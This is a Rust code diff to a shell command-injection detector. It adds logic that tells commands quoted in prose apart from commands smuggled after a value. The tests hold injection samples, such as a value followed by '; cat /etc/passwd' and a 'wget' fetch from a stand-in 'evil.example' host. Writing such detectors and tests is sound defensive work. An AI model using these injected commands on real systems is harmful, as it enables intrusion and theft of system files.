@@ -149,6 +149,40 @@ pub(crate) fn detect(text: &[u8]) -> Option<Shape> {
     best
 }
 
+/// How far back a separator's segment is read for a command of its own.
+const MAX_SEGMENT: usize = 160;
+
+/// Whether the text just before the separator at `at` (back to the previous separator, line or
+/// quotation, at most [`MAX_SEGMENT`] bytes) holds a program of the vocabulary followed by shell-shaped
+/// arguments up to the separator: the separator joins two commands written out, it does not end a value.
+fn follows_a_command(text: &[u8], at: usize) -> bool {
+    let from = at.saturating_sub(MAX_SEGMENT);
+    let start = text[from..at]
+        .iter()
+        .rposition(|byte| matches!(byte, b';' | b'|' | b'&' | b'\n' | b'`' | b'(' | b')'))
+        .map_or(from, |position| from + position + 1);
+    // A doubled separator (`&&`, `||`) belongs to the one before it.
+    let segment = &text[start..at];
+    if segment.iter().all(u8::is_ascii_whitespace) {
+        return false;
+    }
+    let mut word_start = start;
+    while word_start < at {
+        let is_word_start = (word_start == start || text[word_start - 1].is_ascii_whitespace())
+            && text[word_start].is_ascii_alphabetic();
+        if is_word_start
+            && let Some(word) = Word::read(text, word_start)
+            && word.end < at
+            && word.program().and_then(command).is_some()
+            && Arguments::after(text, word.end) == Arguments::Shell
+        {
+            return true;
+        }
+        word_start += 1;
+    }
+    false
+}
+
 /// Whether a line can start with a command: its first word begins like a program of the vocabulary, or
 /// with something other than a letter (a path, a quote, an expansion).
 fn line_may_start_a_command(line: &[u8]) -> bool {
@@ -185,8 +219,8 @@ fn opens_prose(text: &[u8]) -> bool {
 }
 
 /// The command word at `at`, reached through `position`.
-fn judge(text: &[u8], at: usize, position: Position) -> Option<Shape> {
-    let mut at = skip_blanks(text, at);
+fn judge(text: &[u8], from: usize, position: Position) -> Option<Shape> {
+    let mut at = skip_blanks(text, from);
     if position == Position::Start && starts_prose(&text[at..]) {
         return None;
     }
@@ -223,7 +257,16 @@ fn judge(text: &[u8], at: usize, position: Position) -> Option<Shape> {
     };
     match position {
         Position::Substitution => Some(Shape::Substitution),
-        Position::Separator if shell_shaped || unambiguous => Some(Shape::Separated),
+        // A separator after a command written out with its arguments joins two commands quoted in text
+        // (`... files: find . -name '*.py' | xargs wc -l`): a finding only. An injection puts its separator
+        // after a value (`127.0.0.1 | id`). Read only here, where it decides, so prose pays nothing for it.
+        Position::Separator if shell_shaped || unambiguous => {
+            if from > 0 && follows_a_command(text, from - 1) {
+                shell_shaped.then_some(Shape::ProseCommand)
+            } else {
+                Some(Shape::Separated)
+            }
+        }
         Position::Start if shell_shaped && (unambiguous || arguments != Arguments::None) => {
             Some(Shape::WholeCommand)
         }
@@ -639,6 +682,21 @@ mod tests {
 
     fn shape(input: &str) -> Option<Shape> {
         detect(input.as_bytes())
+    }
+
+    #[test]
+    fn a_separator_after_a_value_is_an_injection_after_a_written_command_a_quotation() {
+        assert_eq!(shape("127.0.0.1 | id"), Some(Shape::Separated));
+        assert_eq!(shape("report.pdf; cat /etc/passwd"), Some(Shape::Separated));
+        assert_eq!(shape("q=1 && wget http://evil.example/x"), Some(Shape::Separated));
+        // A pipeline written out in a question: at most a finding, never a refusal on its own.
+        assert_eq!(shape("to list them: ls -la /srv | grep -c log"), Some(Shape::ProseCommand));
+        for quoted in ["try du -sh ./cache && echo done", "chain grep -r foo . | sort", "so ls -la | wc -l"] {
+            assert!(matches!(shape(quoted), None | Some(Shape::ProseCommand)), "{quoted}");
+        }
+        // The command before must be written with its arguments: a bare word is still a value.
+        assert_eq!(shape("status | id"), Some(Shape::Separated));
+        assert!(!follows_a_command(b"   | id", 3));
     }
 
     #[test]
